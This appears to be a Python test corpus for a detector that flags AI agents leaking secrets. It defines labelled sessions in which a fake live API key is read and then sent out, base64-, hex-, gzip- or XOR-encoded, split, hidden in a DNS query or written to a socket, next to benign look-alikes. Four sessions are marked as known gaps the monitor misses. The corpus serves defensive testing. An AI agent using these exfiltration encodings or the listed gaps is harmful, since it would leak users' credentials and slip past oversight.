"""The labelled corpus: 25 malicious sessions, four of them known gaps, and 30 benign ones, written anew. Encoders here are
Python's, not the library's, so neither can hide a fault of the other."""

from __future__ import annotations

import base64
import gzip
import json
from urllib.parse import quote_plus

from .scenarios import b64, call, page, read, send

KEY = "sk-live-9f8e7d6c5b4a39281706f5e4"
BLURB = "Aurora lamp, a warm dimmable reading light with a walnut base"
ENCODERS = {
    "literal": str, "base64": b64, "hex": lambda s: s.encode().hex(), "url_encoded": quote_plus, "reversed": lambda s: s[::-1],
    "base64_hex": lambda s: b64(s.encode().hex()), "hex_base64": lambda s: b64(s).encode().hex(), "base64_url": lambda s: b64(quote_plus(s)), "base64_reversed": lambda s: b64(s[::-1]),
    "gzip_base64": lambda s: base64.b64encode(gzip.compress(s.encode(), 9)).decode(),
}
A, B, SENSOR = "proxy_variant_a", "ebpf_variant_b", "sensor_variant_b"


def ticket(text=f"Access for the customer: {KEY}"):
    return read(text)


def search(i=0):
    return {"kind": "result", "tool_name": "search_docs", "server_id": "docs", "result": json.dumps({"content": [{"type": "text", "text": f"guide {i}"}]})}


def tell(text, tool="send_message"):
    return send(json.dumps({"to": "someone@example.org", "body": text}), tool)


def opened(text, path="/secrets/app/key"):
    return call("openat", None, plane="sensor", path=path, file_contents=text, dest_ip=None, dest_port=None)


def wait(step, minutes):
    return step | {"after": minutes * 60}


_DEEP = {"content": [{"type": "text", "text": "ok"}], "rows": [{"id": i, "tags": ["a", {"b": "c" * 20}]} for i in range(200)]}
#: id: (category, plane, known gap, steps)
CORPUS = {
    **{f"leak_{name}": ("malicious", A, False, [ticket(), tell(f(KEY))]) for name, f in ENCODERS.items()},
    "leak_two_arguments": ("malicious", A, False, [ticket(), send(json.dumps({"a": KEY[:15], "b": KEY[15:]}))]),
    "leak_other_sink": ("malicious", A, False, [ticket(), tell(KEY, "http_post")]),
    "leak_after_much_else": ("malicious", A, False, [ticket(), *[search(i) for i in range(8)], tell("All fine here."), *[page(f"news {i}") for i in range(30)], tell(f"ref {KEY}")]),
    "leak_of_parts": ("malicious", A, False, [ticket(f"first {KEY[:13]}"), ticket(f"{KEY[13:]} last"), tell(KEY)]),
    "leak_of_metadata": ("malicious", A, False, [read(result=json.dumps({"content": [{"type": "text", "text": "see below"}], "extra": {"deep": [{"cred": KEY}]}})), tell(KEY)]),
    "leak_three_layers": ("malicious", A, False, [ticket(), tell(b64(b64(KEY).encode().hex()))]),
    "leak_write": ("malicious", B, False, [ticket(), call("write", f"PUT / {KEY}".encode())]),
    "leak_write_near_the_end": ("malicious", B, False, [ticket(), call("write", b"." * 460 + KEY.encode() + b"." * 20)]),
    "leak_sendto": ("malicious", B, False, [ticket(), call("sendto", f"q={KEY}".encode())]),
    "leak_dns": ("malicious", B, False, [ticket(), call("sendto", f"{KEY.encode().hex()}.x.example".encode(), dest_port=53)]),
    "leak_opened_file": ("malicious", SENSOR, False, [opened(f"key={KEY}"), call("write", KEY.encode(), plane="sensor")]),
    "gap_other_compressor": ("malicious", A, True, [ticket(), tell(base64.b64encode(bytes(x ^ 0x33 for x in KEY.encode())).decode())]),
    "gap_cut_payload": ("malicious", B, True, [ticket(), call("write", b"." * 1024 + KEY.encode())]),
    "gap_untagged_tool": ("malicious", A, True, [ticket(), tell(KEY, "internal_note") | {"server_id": "tickets"}]),
    "gap_paraphrase": ("malicious", A, True, [ticket(), tell("The customer's live key starts with nine f eight e, ask me for the rest")]),
    "reads_only": ("benign", A, False, [ticket(), ticket("Second one")]),
    "sends_only": ("benign", A, False, [tell("Build is green"), tell("Deployed")]),
    "sends_then_reads": ("benign", A, False, [tell("Starting work"), ticket()]),
    "searches_and_one_read": ("benign", A, False, [*[search(i) for i in range(20)], ticket(), *[search(i) for i in range(5)]]),
    "no_session": ("benign", B, False, [call("connect")]),
    "never_read": ("benign", B, False, [call("connect"), call("write", b"GET /health")]),
    "opens_without_egress": ("benign", SENSOR, False, [opened("level: debug")]),
    "ticket_without_secret": ("benign", A, False, [ticket("The printer on floor two is out of paper")]),
    "decayed_after_32": ("benign", A, False, [ticket(), *[search(i) for i in range(32)], tell("Lunch at noon?")]),
    "unrelated_reply": ("benign", A, False, [ticket(), tell("See you tomorrow")]),
    "masked_mention": ("benign", A, False, [ticket(), tell("The key sk-...f5e4 was rotated")]),
    "ticket_number": ("benign", A, False, [ticket(), tell("Please look at ticket 1042")]),
    "summary": ("benign", A, False, [ticket(), tell("Customer can't sign in and needs new credentials")]),
    "other_base64": ("benign", A, False, [ticket(), tell(base64.b64encode(bytes(range(200))).decode())]),
    "monitored_reply": ("benign", A, False, [ticket(), tell("Meeting moved to ten")]),
    "opens_then_telemetry": ("benign", SENSOR, False, [opened(f"key={KEY}"), call("write", b"metric cpu=3", plane="sensor")]),
    "quotes_a_page": ("benign", A, False, [ticket(), page(f"Today only: {BLURB}."), tell(f"Saw this: {BLURB}")]),
    "another_key": ("benign", A, False, [ticket(), tell("Theirs is sk-live-000011112222333344445555")]),
    "encoded_export": ("benign", A, False, [ticket(), tell(b64("name,plan\nann,free\nbob,paid\n" * 20))]),
    "decayed_after_50": ("benign", A, False, [ticket(), *[search(i) for i in range(50)], tell("Any news?")]),
    "large_result": ("benign", A, False, [read(result=json.dumps(_DEEP | {"content": [{"type": "text", "text": KEY}]})), tell("Status: ok")]),
    "large_result_key_inside": ("benign", A, False, [read(result=json.dumps(_DEEP | {"meta": {"k": KEY}})), tell("Status: still ok")]),
    "idle_31_minutes": ("benign", A, False, [ticket(), page(f"Offer: {BLURB}"), wait(tell(f"Nice: {BLURB}"), 31)]),
    "idle_just_under_30": ("benign", A, False, [ticket(), page(f"Offer: {BLURB}"), wait(tell(f"Nice: {BLURB}"), 29 + 58 / 60)]),
    "three_servers_quote": ("benign", A, False, [ticket(), page(f"Catalogue. {BLURB}. In stock.") | {"server_id": "shop"}, tell(f"Order this? {BLURB}")]),
    "three_servers_apart": ("benign", A, False, [ticket(), page(f"Catalogue. {BLURB}.") | {"server_id": "shop"}, tell("Order the usual lamp?")]),
    "product_named": ("benign", A, False, [ticket(), page(f"{BLURB}, 49 euros"), tell(f"For Kim: {BLURB}, 49 euros")]),
    "prose_beside_the_key": ("benign", A, False, [ticket(f"The customer has written four times about the broken hinge. {KEY}"), tell("The customer has written four times about the broken hinge.")]),
    "pages_without_key": ("benign", A, False, [ticket("part one"), ticket("part two"), ticket("part three"), tell("All parts read")]),
    "pages_with_key": ("benign", A, False, [ticket(f"one {KEY[:13]}"), ticket(f"{KEY[13:]} two"), tell("All pages read")]),
}
#: Benign sessions that trip softly, by what they quote.
SOFT = {"quotes_a_page", "idle_just_under_30", "three_servers_quote", "product_named"}
